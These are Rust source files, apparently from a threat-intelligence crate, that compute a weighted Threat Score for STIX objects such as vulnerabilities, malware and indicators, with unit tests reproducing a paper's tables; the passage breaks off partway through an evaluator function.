    /// Grand total across criteria.
    pub fn total(self) -> u32 {
        self.relevance + self.accuracy + self.timeliness + self.variety
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn totals() {
        let p = CriteriaPoints::new(7, 10, 1, 5);
        assert_eq!(p.total(), 23);
    }

    #[test]
    fn accumulate() {
        let mut totals = CriteriaTotals::default();
        totals.add(CriteriaPoints::new(5, 1, 1, 1));
        totals.add(CriteriaPoints::new(5, 5, 1, 1));
        assert_eq!(totals.relevance, 10);
        assert_eq!(totals.accuracy, 6);
        assert_eq!(totals.total(), 20);
    }
}
