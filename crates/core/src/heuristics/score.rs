//! The Threat Score of Equation 1, with a full per-feature breakdown.

use serde::{Deserialize, Serialize};

use super::criteria::CriteriaTotals;
use super::feature::FeatureValue;
use super::weights::WeightScheme;

/// One feature's line in the score breakdown.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ScoreLine {
    /// Feature name (empty when scored from anonymous vectors).
    pub feature: String,
    /// The evaluated value.
    pub value: FeatureValue,
    /// The resolved weight `Pᵢ`.
    pub weight: f64,
    /// `Xᵢ·Pᵢ`.
    pub contribution: f64,
}

/// The full account of one scoring run — what the paper's future work
/// wants displayed alongside the final number.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct ScoreBreakdown {
    /// Per-feature lines, in feature order.
    pub lines: Vec<ScoreLine>,
    /// Per-criterion point totals over evaluated features (only
    /// populated for criteria-derived schemes).
    pub criteria_totals: Option<CriteriaTotals>,
    /// Evaluated (non-empty) feature count.
    pub evaluated: usize,
    /// Total feature count.
    pub total_features: usize,
}

/// A computed Threat Score.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ThreatScore {
    total: f64,
    completeness: f64,
    breakdown: ScoreBreakdown,
}

impl ThreatScore {
    /// The final score, in `0 ≤ TS ≤ 5`.
    pub fn total(&self) -> f64 {
        self.total
    }

    /// The completeness factor `Cp`.
    pub fn completeness(&self) -> f64 {
        self.completeness
    }

    /// The per-feature breakdown.
    pub fn breakdown(&self) -> &ScoreBreakdown {
        &self.breakdown
    }

    /// What the score could reach if every empty feature were filled
    /// with evidence — the gap quantifies how much the IoC's quality
    /// would improve with more information, the paper's future-work
    /// theme of "improving the quality of the refined threat
    /// intelligence".
    ///
    /// The bound assumes each empty feature could score 5 and that
    /// completeness would rise to 1. Weights are not re-derived — empty
    /// features are granted the mean weight of the evaluated ones — so
    /// this is a fast estimate rather than a full re-evaluation.
    pub fn potential_if_complete(&self) -> f64 {
        if self.breakdown.total_features == 0 {
            return 0.0;
        }
        let filled_sum: f64 = self.breakdown.lines.iter().map(|l| l.contribution).sum();
        // Empty features carry no weight under renormalizing schemes;
        // grant them the mean weight of evaluated features as the
        // conservative estimate of what they would claim.
        let evaluated_weight: f64 = self
            .breakdown
            .lines
            .iter()
            .filter(|l| l.value.is_evaluated())
            .map(|l| l.weight)
            .sum();
        let evaluated = self.breakdown.evaluated.max(1);
        let mean_weight = evaluated_weight / evaluated as f64;
        let empty = self.breakdown.total_features - self.breakdown.evaluated;
        let optimistic = filled_sum + empty as f64 * mean_weight * 5.0;
        // Completeness would become 1; renormalize the weight mass.
        let mass = evaluated_weight + empty as f64 * mean_weight;
        if mass == 0.0 {
            return 0.0;
        }
        (optimistic / mass).clamp(self.total, 5.0)
    }

    /// The paper's qualitative reading: scores near zero mean "poor,
    /// incomplete and/or not reliable with a very low priority level".
    pub fn priority_label(&self) -> &'static str {
        if self.total < 1.0 {
            "very-low"
        } else if self.total < 2.0 {
            "low"
        } else if self.total < 3.0 {
            "medium"
        } else if self.total < 4.0 {
            "high"
        } else {
            "critical"
        }
    }
}

/// Computes `TS = Cp × Σ Xᵢ·Pᵢ` over anonymous feature values.
///
/// For named features (and criteria totals in the breakdown), use
/// [`threat_score_named`].
///
/// # Examples
///
/// ```
/// use cais_core::heuristics::{score, FeatureValue, WeightScheme};
///
/// // Table I, H2: X = (5,2,2,4,0) → Cp = 4/5, TS = 1.92.
/// let weights = WeightScheme::fixed(vec![0.10, 0.25, 0.40, 0.15, 0.10]);
/// let values = [5, 2, 2, 4, 0].map(FeatureValue::scored);
/// let ts = score::threat_score(&values, &weights);
/// assert!((ts.total() - 1.92).abs() < 1e-9);
/// assert!((ts.completeness() - 0.8).abs() < 1e-9);
/// ```
pub fn threat_score(values: &[FeatureValue], scheme: &WeightScheme) -> ThreatScore {
    let names: Vec<String> = (0..values.len()).map(|i| format!("x{}", i + 1)).collect();
    let name_refs: Vec<&str> = names.iter().map(String::as_str).collect();
    threat_score_named(&name_refs, values, scheme)
}

/// Computes the score with feature names carried into the breakdown.
///
/// # Panics
///
/// Panics when `names`, `values` and the scheme disagree on length (a
/// programming error; the registry keeps them aligned).
pub fn threat_score_named(
    names: &[&str],
    values: &[FeatureValue],
    scheme: &WeightScheme,
) -> ThreatScore {
    assert_eq!(names.len(), values.len(), "names/values length mismatch");
    let weights = scheme.resolve(values);
    let evaluated = values.iter().filter(|v| v.is_evaluated()).count();
    let total_features = values.len();
    let completeness = if total_features == 0 {
        0.0
    } else {
        evaluated as f64 / total_features as f64
    };

    let mut lines = Vec::with_capacity(values.len());
    let mut weighted_sum = 0.0;
    for ((name, value), weight) in names.iter().zip(values).zip(&weights) {
        let contribution = value.value() * weight;
        weighted_sum += contribution;
        lines.push(ScoreLine {
            feature: (*name).to_owned(),
            value: *value,
            weight: *weight,
            contribution,
        });
    }

    let criteria_totals = match scheme {
        WeightScheme::Criteria { points } => {
            let mut totals = CriteriaTotals::default();
            for (point, value) in points.iter().zip(values) {
                if value.is_evaluated() {
                    totals.add(*point);
                }
            }
            Some(totals)
        }
        WeightScheme::Static { .. } => None,
    };

    ThreatScore {
        total: completeness * weighted_sum,
        completeness,
        breakdown: ScoreBreakdown {
            lines,
            criteria_totals,
            evaluated,
            total_features,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::heuristics::CriteriaPoints;

    fn table1_scheme() -> WeightScheme {
        WeightScheme::fixed(vec![0.10, 0.25, 0.40, 0.15, 0.10])
    }

    #[test]
    fn table1_h1() {
        let ts = threat_score(&[3, 4, 3, 1, 5].map(FeatureValue::scored), &table1_scheme());
        assert!((ts.total() - 3.15).abs() < 1e-9);
        assert_eq!(ts.completeness(), 1.0);
        assert_eq!(ts.priority_label(), "high");
    }

    #[test]
    fn table1_h2() {
        let ts = threat_score(&[5, 2, 2, 4, 0].map(FeatureValue::scored), &table1_scheme());
        assert!((ts.total() - 1.92).abs() < 1e-9);
        assert!((ts.completeness() - 0.8).abs() < 1e-9);
        assert_eq!(ts.breakdown().evaluated, 4);
        assert_eq!(ts.breakdown().total_features, 5);
    }

    #[test]
    fn table1_h3() {
        let ts = threat_score(&[1, 1, 2, 3, 3].map(FeatureValue::scored), &table1_scheme());
        assert!((ts.total() - 1.90).abs() < 1e-9);
    }

    #[test]
    fn breakdown_lines_account_for_total() {
        let ts = threat_score(&[3, 4, 3, 1, 5].map(FeatureValue::scored), &table1_scheme());
        let sum: f64 = ts.breakdown().lines.iter().map(|l| l.contribution).sum();
        assert!((ts.total() - ts.completeness() * sum).abs() < 1e-12);
    }

    #[test]
    fn criteria_scheme_populates_totals() {
        let scheme = WeightScheme::from_criteria(vec![
            CriteriaPoints::new(5, 1, 1, 1),
            CriteriaPoints::new(1, 1, 1, 1),
        ]);
        let ts = threat_score(&[FeatureValue::Scored(3), FeatureValue::Empty], &scheme);
        let totals = ts.breakdown().criteria_totals.expect("criteria mode");
        // Only the evaluated feature contributes.
        assert_eq!(totals.relevance, 5);
        assert_eq!(totals.total(), 8);
    }

    #[test]
    fn empty_vector_scores_zero() {
        let ts = threat_score(&[], &WeightScheme::fixed(vec![]));
        assert_eq!(ts.total(), 0.0);
        assert_eq!(ts.completeness(), 0.0);
        assert_eq!(ts.priority_label(), "very-low");
    }

    #[test]
    fn score_bounds_hold_for_normalized_weights() {
        // With weights summing to 1 and X ≤ 5, TS ≤ 5.
        let scheme = WeightScheme::fixed(vec![0.2; 5]);
        let ts = threat_score(&[5; 5].map(FeatureValue::scored), &scheme);
        assert!((ts.total() - 5.0).abs() < 1e-9);
    }

    #[test]
    fn priority_labels_cover_range() {
        let labels: Vec<&str> = [0.5, 1.5, 2.5, 3.5, 4.5]
            .iter()
            .map(|&total| {
                let ts = ThreatScore {
                    total,
                    completeness: 1.0,
                    breakdown: ScoreBreakdown::default(),
                };
                ts.priority_label()
            })
            .collect();
        assert_eq!(
            labels,
            vec!["very-low", "low", "medium", "high", "critical"]
        );
    }
}

#[cfg(test)]
mod potential_tests {
    use super::*;

    #[test]
    fn complete_evaluations_have_no_headroom_beyond_filled_values() {
        let scheme = WeightScheme::fixed(vec![0.2; 5]);
        let ts = threat_score(&[5, 5, 5, 5, 5].map(FeatureValue::scored), &scheme);
        assert!((ts.potential_if_complete() - ts.total()).abs() < 1e-9);
    }

    #[test]
    fn missing_information_creates_headroom() {
        // The paper's use case: valid_until is empty; filling it could
        // raise the score.
        let ctx = crate::context::EvaluationContext::paper_use_case();
        let ts = crate::heuristics::vulnerability::evaluate(
            &crate::heuristics::vulnerability::paper_rce_ioc(),
            &ctx,
        );
        let potential = ts.potential_if_complete();
        assert!(potential > ts.total(), "{potential} !> {}", ts.total());
        assert!(potential <= 5.0);
    }

    #[test]
    fn potential_never_drops_below_current() {
        let scheme = WeightScheme::fixed(vec![0.25; 4]);
        for raw in [[0u8, 0, 0, 0], [1, 0, 0, 0], [5, 0, 5, 0], [2, 3, 0, 1]] {
            let ts = threat_score(&raw.map(FeatureValue::scored), &scheme);
            assert!(ts.potential_if_complete() + 1e-12 >= ts.total(), "{raw:?}");
            assert!(ts.potential_if_complete() <= 5.0 + 1e-12);
        }
    }
}
