//! Weight schemes: how `Pᵢ` is obtained.
//!
//! The paper uses both forms. Table I fixes per-feature weights
//! (P₁ = 0.10 … P₅ = 0.10) that stay fixed even when a feature is empty
//! (H₂'s score is `4/5 × Σ Xᵢ·Pᵢ` with the original weights). Table V
//! derives each weight from the feature's expert criteria points,
//! normalized **over the evaluated features only** (the eight evaluated
//! rows' points sum to 84 and the discarded `valid_until` contributes
//! nothing to the denominator).

use serde::{Deserialize, Serialize};

use super::criteria::CriteriaPoints;
use super::feature::FeatureValue;

/// Whether weights renormalize when features are empty.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
#[serde(rename_all = "snake_case")]
pub enum NormalizationPolicy {
    /// Weights stay as configured (Table I's behaviour: an empty
    /// feature's weight is simply lost).
    #[default]
    Fixed,
    /// Weights renormalize over the evaluated features (Table V's
    /// behaviour).
    OverEvaluated,
}

/// How feature weights `Pᵢ` are determined.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum WeightScheme {
    /// Explicit per-feature weights plus a normalization policy.
    Static {
        /// The per-feature weights, in feature order.
        weights: Vec<f64>,
        /// Renormalization behaviour on empty features.
        policy: NormalizationPolicy,
    },
    /// Weights derived from expert criteria points, always normalized
    /// over the evaluated features.
    Criteria {
        /// Per-feature criteria points, in feature order.
        points: Vec<CriteriaPoints>,
    },
}

impl WeightScheme {
    /// A static scheme with fixed weights (Table I's configuration).
    pub fn fixed(weights: Vec<f64>) -> Self {
        WeightScheme::Static {
            weights,
            policy: NormalizationPolicy::Fixed,
        }
    }

    /// A criteria-derived scheme (Table V's configuration).
    pub fn from_criteria(points: Vec<CriteriaPoints>) -> Self {
        WeightScheme::Criteria { points }
    }

    /// Number of features the scheme covers.
    pub fn len(&self) -> usize {
        match self {
            WeightScheme::Static { weights, .. } => weights.len(),
            WeightScheme::Criteria { points } => points.len(),
        }
    }

    /// Whether the scheme covers no features.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Resolves the effective per-feature weights for a particular
    /// evaluation (empty features receive weight 0 under renormalizing
    /// policies).
    ///
    /// # Panics
    ///
    /// Panics when `values.len()` differs from the scheme length; the
    /// registry guarantees matching lengths, and a mismatch is a
    /// programming error.
    pub fn resolve(&self, values: &[FeatureValue]) -> Vec<f64> {
        assert_eq!(
            values.len(),
            self.len(),
            "weight scheme covers {} features but {} were evaluated",
            self.len(),
            values.len()
        );
        match self {
            WeightScheme::Static { weights, policy } => match policy {
                NormalizationPolicy::Fixed => weights.clone(),
                NormalizationPolicy::OverEvaluated => {
                    let denom: f64 = weights
                        .iter()
                        .zip(values)
                        .filter(|(_, v)| v.is_evaluated())
                        .map(|(w, _)| *w)
                        .sum();
                    if denom == 0.0 {
                        return vec![0.0; weights.len()];
                    }
                    weights
                        .iter()
                        .zip(values)
                        .map(|(w, v)| if v.is_evaluated() { w / denom } else { 0.0 })
                        .collect()
                }
            },
            WeightScheme::Criteria { points } => {
                let denom: u32 = points
                    .iter()
                    .zip(values)
                    .filter(|(_, v)| v.is_evaluated())
                    .map(|(p, _)| p.total())
                    .sum();
                if denom == 0 {
                    return vec![0.0; points.len()];
                }
                points
                    .iter()
                    .zip(values)
                    .map(|(p, v)| {
                        if v.is_evaluated() {
                            f64::from(p.total()) / f64::from(denom)
                        } else {
                            0.0
                        }
                    })
                    .collect()
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixed_weights_pass_through() {
        let scheme = WeightScheme::fixed(vec![0.10, 0.25, 0.40, 0.15, 0.10]);
        let values = [3, 4, 3, 1, 5].map(FeatureValue::scored);
        assert_eq!(scheme.resolve(&values), vec![0.10, 0.25, 0.40, 0.15, 0.10]);
        // Empty features keep their (now unused) weight under Fixed.
        let with_empty = [5, 2, 2, 4, 0].map(FeatureValue::scored);
        assert_eq!(
            scheme.resolve(&with_empty),
            vec![0.10, 0.25, 0.40, 0.15, 0.10]
        );
    }

    #[test]
    fn static_renormalization() {
        let scheme = WeightScheme::Static {
            weights: vec![0.5, 0.5],
            policy: NormalizationPolicy::OverEvaluated,
        };
        let values = [FeatureValue::Scored(3), FeatureValue::Empty];
        assert_eq!(scheme.resolve(&values), vec![1.0, 0.0]);
    }

    #[test]
    fn criteria_weights_match_table5() {
        // Table V point totals: the evaluated eight features sum to 84.
        let points = vec![
            CriteriaPoints::new(5, 1, 1, 1),  // operating_system      8
            CriteriaPoints::new(5, 1, 1, 1),  // source_diversity      8
            CriteriaPoints::new(5, 5, 1, 1),  // application          12
            CriteriaPoints::new(5, 1, 1, 1),  // vuln_app_in_alarm     8
            CriteriaPoints::new(1, 1, 1, 1),  // modified_created      4
            CriteriaPoints::new(1, 1, 1, 1),  // valid_from            4
            CriteriaPoints::new(1, 1, 1, 1),  // valid_until           4 (empty)
            CriteriaPoints::new(7, 10, 1, 5), // external_references  23
            CriteriaPoints::new(10, 5, 1, 1), // cve                  17
        ];
        let scheme = WeightScheme::from_criteria(points);
        let values = [
            FeatureValue::Scored(3),
            FeatureValue::Scored(1),
            FeatureValue::Scored(2),
            FeatureValue::Scored(1),
            FeatureValue::Scored(2),
            FeatureValue::Scored(1),
            FeatureValue::Empty, // valid_until discarded
            FeatureValue::Scored(5),
            FeatureValue::Scored(4),
        ];
        let weights = scheme.resolve(&values);
        // Paper's printed Pᵢ (4 decimals).
        let expected = [
            8.0 / 84.0,  // 0.0952
            8.0 / 84.0,  // 0.0952
            12.0 / 84.0, // 0.1429
            8.0 / 84.0,  // 0.0952
            4.0 / 84.0,  // 0.0476
            4.0 / 84.0,  // 0.0476
            0.0,
            23.0 / 84.0, // 0.2738
            17.0 / 84.0, // 0.2024
        ];
        for (w, e) in weights.iter().zip(expected) {
            assert!((w - e).abs() < 1e-12, "{w} vs {e}");
        }
        assert!((weights.iter().sum::<f64>() - 1.0).abs() < 1e-12);
    }

    #[test]
    fn all_empty_resolves_to_zero() {
        let scheme = WeightScheme::from_criteria(vec![CriteriaPoints::new(1, 1, 1, 1); 3]);
        let values = [FeatureValue::Empty; 3];
        assert_eq!(scheme.resolve(&values), vec![0.0; 3]);
    }

    #[test]
    #[should_panic(expected = "weight scheme covers")]
    fn length_mismatch_panics() {
        let scheme = WeightScheme::fixed(vec![1.0]);
        let _ = scheme.resolve(&[FeatureValue::Empty, FeatureValue::Empty]);
    }
}
