//! The Heuristic Component: features, weighting criteria and the
//! Threat Score of Equation 1.
//!
//! ```text
//! TS = Cp × Σᵢ Xᵢ·Pᵢ        (Eq. 1)
//! ```
//!
//! * `Xᵢ` — the value assigned to feature *i* during evaluation
//!   (0–5, based on Table IV-style attribute tables);
//! * `Pᵢ` — the weight of feature *i*, either fixed (Table I) or derived
//!   from expert Relevance/Accuracy/Timeliness/Variety points and
//!   renormalized over the evaluated features (Table V);
//! * `Cp` — the completeness criterion: non-empty features over total
//!   features.
//!
//! `0 ≤ TS ≤ 5`; higher means a more reliable, higher-priority IoC.

mod criteria;
mod feature;
pub mod generic;
mod registry;
pub mod score;
pub mod tuning;
pub mod vulnerability;
mod weights;

pub use criteria::{CriteriaPoints, CriteriaTotals};
pub use feature::{FeatureDefinition, FeatureValue};
pub use registry::{feature_names, HeuristicKind};
pub use score::{threat_score, ScoreBreakdown, ThreatScore};
pub use weights::{NormalizationPolicy, WeightScheme};
