//! The heuristic registry: the six SDO heuristics of Section III-B2a
//! with their Table II feature sets and expert criteria points.
//!
//! The vulnerability heuristic's points are pinned by Table V (they
//! must reproduce the printed `Pᵢ` values); the other five heuristics
//! carry expert assignments following the same convention — required
//! identity-bearing features get high relevance, infrastructure-matched
//! features get high accuracy.

use serde::{Deserialize, Serialize};

use super::criteria::CriteriaPoints;
use super::feature::FeatureDefinition;
use super::weights::WeightScheme;

/// The six SDO heuristics the paper selects.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum HeuristicKind {
    /// Tactics, techniques and procedures.
    AttackPattern,
    /// Individuals, organizations or groups.
    Identity,
    /// Detection patterns.
    Indicator,
    /// Malicious code.
    Malware,
    /// Dual-use legitimate software.
    Tool,
    /// Software weaknesses.
    Vulnerability,
}

impl HeuristicKind {
    /// All six heuristics.
    pub const ALL: [HeuristicKind; 6] = [
        HeuristicKind::AttackPattern,
        HeuristicKind::Identity,
        HeuristicKind::Indicator,
        HeuristicKind::Malware,
        HeuristicKind::Tool,
        HeuristicKind::Vulnerability,
    ];

    /// The feature definitions of this heuristic, in evaluation order.
    pub fn features(self) -> &'static [FeatureDefinition] {
        match self {
            HeuristicKind::AttackPattern => ATTACK_PATTERN_FEATURES,
            HeuristicKind::Identity => IDENTITY_FEATURES,
            HeuristicKind::Indicator => INDICATOR_FEATURES,
            HeuristicKind::Malware => MALWARE_FEATURES,
            HeuristicKind::Tool => TOOL_FEATURES,
            HeuristicKind::Vulnerability => VULNERABILITY_FEATURES,
        }
    }

    /// The criteria-derived weight scheme over this heuristic's
    /// features.
    pub fn weight_scheme(self) -> WeightScheme {
        WeightScheme::from_criteria(self.features().iter().map(|f| f.criteria).collect())
    }

    /// The STIX object-type name this heuristic scores.
    pub fn stix_type(self) -> &'static str {
        match self {
            HeuristicKind::AttackPattern => "attack-pattern",
            HeuristicKind::Identity => "identity",
            HeuristicKind::Indicator => "indicator",
            HeuristicKind::Malware => "malware",
            HeuristicKind::Tool => "tool",
            HeuristicKind::Vulnerability => "vulnerability",
        }
    }

    /// Resolves a heuristic from a STIX object-type name.
    pub fn from_stix_type(name: &str) -> Option<HeuristicKind> {
        HeuristicKind::ALL
            .into_iter()
            .find(|h| h.stix_type() == name)
    }
}

impl std::fmt::Display for HeuristicKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.stix_type())
    }
}

/// Feature names of a heuristic, in evaluation order.
pub fn feature_names(kind: HeuristicKind) -> Vec<&'static str> {
    kind.features().iter().map(|f| f.name).collect()
}

const fn f(name: &'static str, r: u32, a: u32, t: u32, v: u32) -> FeatureDefinition {
    FeatureDefinition::new(name, CriteriaPoints::new(r, a, t, v))
}

/// Table II, attack-pattern row.
static ATTACK_PATTERN_FEATURES: &[FeatureDefinition] = &[
    f("attack_type", 10, 1, 1, 1),
    f("detection_tool", 5, 5, 1, 1),
    f("modified_created", 1, 1, 1, 1),
    f("valid_from", 1, 1, 1, 1),
    f("external_references", 7, 10, 1, 5),
    f("kill_chain_phases", 5, 1, 1, 1),
    f("osint_source", 3, 1, 1, 5),
    f("source_type", 3, 1, 1, 5),
];

/// Table II, identity row.
static IDENTITY_FEATURES: &[FeatureDefinition] = &[
    f("identity_class", 5, 1, 1, 1),
    f("name", 10, 1, 1, 1),
    f("sectors", 5, 5, 1, 1),
    f("modified_created", 1, 1, 1, 1),
    f("valid_from", 1, 1, 1, 1),
    f("location", 5, 5, 1, 1),
    f("osint_source", 3, 1, 1, 5),
    f("source_type", 3, 1, 1, 5),
];

/// Table II, indicator row.
static INDICATOR_FEATURES: &[FeatureDefinition] = &[
    f("indicator_type", 5, 1, 1, 1),
    f("modified_created", 1, 1, 1, 1),
    f("valid_from", 1, 1, 1, 1),
    f("external_references", 7, 10, 1, 5),
    f("kill_chain_phases", 5, 1, 1, 1),
    f("pattern", 10, 5, 1, 1),
    f("osint_source", 3, 1, 1, 5),
    f("source_type", 3, 1, 1, 5),
];

/// Table II, malware row.
static MALWARE_FEATURES: &[FeatureDefinition] = &[
    f("category", 10, 1, 1, 1),
    f("status", 5, 1, 3, 1),
    f("operating_system", 5, 5, 1, 1),
    f("modified_created", 1, 1, 1, 1),
    f("valid_from", 1, 1, 1, 1),
    f("external_references", 7, 10, 1, 5),
    f("kill_chain_phases", 5, 1, 1, 1),
    f("osint_source", 3, 1, 1, 5),
    f("source_type", 3, 1, 1, 5),
];

/// Table II, tool row.
static TOOL_FEATURES: &[FeatureDefinition] = &[
    f("tool_type", 10, 1, 1, 1),
    f("name", 5, 5, 1, 1),
    f("modified_created", 1, 1, 1, 1),
    f("valid_from", 1, 1, 1, 1),
    f("kill_chain_phases", 5, 1, 1, 1),
    f("osint_source", 3, 1, 1, 5),
    f("source_type", 3, 1, 1, 5),
];

/// Table II vulnerability row, with the exact point totals Table V's
/// printed weights require: {8, 8, 12, 8, 4, 4, 4, 23, 17}; the
/// evaluated eight sum to 84.
static VULNERABILITY_FEATURES: &[FeatureDefinition] = &[
    f("operating_system", 5, 1, 1, 1),     //  8
    f("source_diversity", 5, 1, 1, 1),     //  8
    f("application", 5, 5, 1, 1),          // 12
    f("vuln_app_in_alarm", 5, 1, 1, 1),    //  8
    f("modified_created", 1, 1, 1, 1),     //  4
    f("valid_from", 1, 1, 1, 1),           //  4
    f("valid_until", 1, 1, 1, 1),          //  4
    f("external_references", 7, 10, 1, 5), // 23
    f("cve", 10, 5, 1, 1),                 // 17
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stix_type_roundtrip() {
        for kind in HeuristicKind::ALL {
            assert_eq!(HeuristicKind::from_stix_type(kind.stix_type()), Some(kind));
        }
        assert_eq!(HeuristicKind::from_stix_type("campaign"), None);
    }

    #[test]
    fn table2_feature_sets() {
        // The exact feature lists of Table II (modified/created merged,
        // as Table V's completeness arithmetic requires).
        assert_eq!(
            feature_names(HeuristicKind::Vulnerability),
            vec![
                "operating_system",
                "source_diversity",
                "application",
                "vuln_app_in_alarm",
                "modified_created",
                "valid_from",
                "valid_until",
                "external_references",
                "cve",
            ]
        );
        assert_eq!(
            feature_names(HeuristicKind::AttackPattern)[..2],
            ["attack_type", "detection_tool"]
        );
        assert!(feature_names(HeuristicKind::Identity).contains(&"location"));
        assert!(feature_names(HeuristicKind::Indicator).contains(&"pattern"));
        assert!(feature_names(HeuristicKind::Malware).contains(&"status"));
        assert!(feature_names(HeuristicKind::Tool).contains(&"tool_type"));
        // Every heuristic tracks its OSINT provenance; the vulnerability
        // heuristic does so through `source_diversity` (Table II).
        for kind in HeuristicKind::ALL {
            let names = feature_names(kind);
            if kind == HeuristicKind::Vulnerability {
                assert!(names.contains(&"source_diversity"));
            } else {
                assert!(names.contains(&"osint_source"), "{kind}");
                assert!(names.contains(&"source_type"), "{kind}");
            }
        }
    }

    #[test]
    fn vulnerability_point_totals_match_table5() {
        let totals: Vec<u32> = HeuristicKind::Vulnerability
            .features()
            .iter()
            .map(|f| f.criteria.total())
            .collect();
        assert_eq!(totals, vec![8, 8, 12, 8, 4, 4, 4, 23, 17]);
        // Evaluated features in the use case (all but valid_until) sum
        // to 84, the denominator of every printed Pᵢ.
        let evaluated_sum: u32 = totals
            .iter()
            .enumerate()
            .filter(|(i, _)| *i != 6)
            .map(|(_, t)| t)
            .sum();
        assert_eq!(evaluated_sum, 84);
    }

    #[test]
    fn weight_scheme_lengths_match_features() {
        for kind in HeuristicKind::ALL {
            assert_eq!(kind.weight_scheme().len(), kind.features().len());
        }
    }
}
