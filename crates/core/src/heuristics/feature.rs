//! Features: the scored dimensions of a heuristic.

use serde::{Deserialize, Serialize};

use super::criteria::CriteriaPoints;

/// The evaluated value of one feature.
///
/// Following Table I of the paper (where heuristic H₂'s zero-valued
/// feature lowers completeness to 4/5), a feature either carries a
/// positive score in 1–5 or is *empty* — "no information". A raw score
/// of zero normalizes to empty.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FeatureValue {
    /// No information for this feature.
    Empty,
    /// A score in 1–5.
    Scored(u8),
}

impl FeatureValue {
    /// Normalizes a raw score: 0 becomes [`FeatureValue::Empty`], larger
    /// values are clamped to 5.
    ///
    /// # Examples
    ///
    /// ```
    /// use cais_core::heuristics::FeatureValue;
    ///
    /// assert_eq!(FeatureValue::scored(0), FeatureValue::Empty);
    /// assert_eq!(FeatureValue::scored(4), FeatureValue::Scored(4));
    /// assert_eq!(FeatureValue::scored(9), FeatureValue::Scored(5));
    /// ```
    pub fn scored(raw: u8) -> FeatureValue {
        match raw {
            0 => FeatureValue::Empty,
            v => FeatureValue::Scored(v.min(5)),
        }
    }

    /// The numeric contribution of the feature (0 when empty).
    pub fn value(self) -> f64 {
        match self {
            FeatureValue::Empty => 0.0,
            FeatureValue::Scored(v) => f64::from(v),
        }
    }

    /// Whether the feature carries information.
    pub fn is_evaluated(self) -> bool {
        matches!(self, FeatureValue::Scored(_))
    }
}

/// The static definition of one feature within a heuristic: its name
/// and its expert criteria points.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FeatureDefinition {
    /// The feature name as the paper's Table II spells it.
    pub name: &'static str,
    /// Expert Relevance/Accuracy/Timeliness/Variety points.
    pub criteria: CriteriaPoints,
}

impl FeatureDefinition {
    /// Creates a definition.
    pub const fn new(name: &'static str, criteria: CriteriaPoints) -> Self {
        FeatureDefinition { name, criteria }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zero_normalizes_to_empty() {
        assert_eq!(FeatureValue::scored(0), FeatureValue::Empty);
        assert!(!FeatureValue::scored(0).is_evaluated());
        assert_eq!(FeatureValue::scored(0).value(), 0.0);
    }

    #[test]
    fn clamp_to_five() {
        assert_eq!(FeatureValue::scored(7), FeatureValue::Scored(5));
    }

    #[test]
    fn value_and_evaluated() {
        assert_eq!(FeatureValue::Scored(3).value(), 3.0);
        assert!(FeatureValue::Scored(1).is_evaluated());
        assert!(!FeatureValue::Empty.is_evaluated());
    }
}
