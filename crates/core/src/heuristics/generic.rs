//! Evaluators for the five non-vulnerability heuristics, completing the
//! six SDO heuristics of Section III-B2a over arbitrary STIX objects.
//!
//! "The set of heuristics will be selected depending on what standard is
//! used for representing cybersecurity events" (Section III-B2); here
//! the standard is STIX 2.0 and the features are Table II's, scored by
//! the same Table IV-style attribute bands the vulnerability heuristic
//! uses: value in 1–5, `Empty` for missing information.

use cais_common::Age;
use cais_stix::prelude::*;
use cais_stix::vocab;

use super::feature::FeatureValue;
use super::registry::HeuristicKind;
use super::score::{threat_score_named, ThreatScore};
use crate::context::EvaluationContext;

/// Scores a timestamp's freshness: `last_24h (5) … other (1)`.
fn age_band(stamp: cais_common::Timestamp, ctx: &EvaluationContext) -> FeatureValue {
    FeatureValue::Scored(match stamp.age_at(ctx.now) {
        Age::Last24Hours => 5,
        Age::LastWeek => 4,
        Age::LastMonth => 3,
        Age::LastYear => 2,
        Age::Older => 1,
    })
}

/// Scores a validity start: `last_week (3) … other (empty)`.
fn valid_from_band(stamp: Option<cais_common::Timestamp>, ctx: &EvaluationContext) -> FeatureValue {
    match stamp.map(|s| s.age_at(ctx.now)) {
        None => FeatureValue::Empty,
        Some(Age::Last24Hours | Age::LastWeek) => FeatureValue::Scored(3),
        Some(Age::LastMonth) => FeatureValue::Scored(2),
        Some(Age::LastYear) => FeatureValue::Scored(1),
        Some(Age::Older) => FeatureValue::Empty,
    }
}

/// Scores external references: `multi_known (5) / single_known (3) /
/// unknown (1) / none (empty)`.
fn references_band(common: &CommonProperties) -> FeatureValue {
    let known = common.known_reference_count();
    if known >= 2 {
        FeatureValue::Scored(5)
    } else if known == 1 {
        FeatureValue::Scored(3)
    } else if !common.external_references.is_empty() {
        FeatureValue::Scored(1)
    } else {
        FeatureValue::Empty
    }
}

/// Scores kill-chain coverage: several phases beat one.
fn kill_chain_band(phases: &[KillChainPhase]) -> FeatureValue {
    match phases.len() {
        0 => FeatureValue::Empty,
        1 => FeatureValue::Scored(3),
        _ => FeatureValue::Scored(5),
    }
}

/// Scores the `osint_source` provenance feature.
fn osint_source_band(common: &CommonProperties) -> FeatureValue {
    match &common.osint_source {
        Some(_) => FeatureValue::Scored(3),
        None => FeatureValue::Empty,
    }
}

/// Scores the `source_type` feature: infrastructure-confirmed sources
/// outrank pure OSINT, which outranks unstated provenance.
fn source_type_band(common: &CommonProperties) -> FeatureValue {
    match common.source_type.as_deref() {
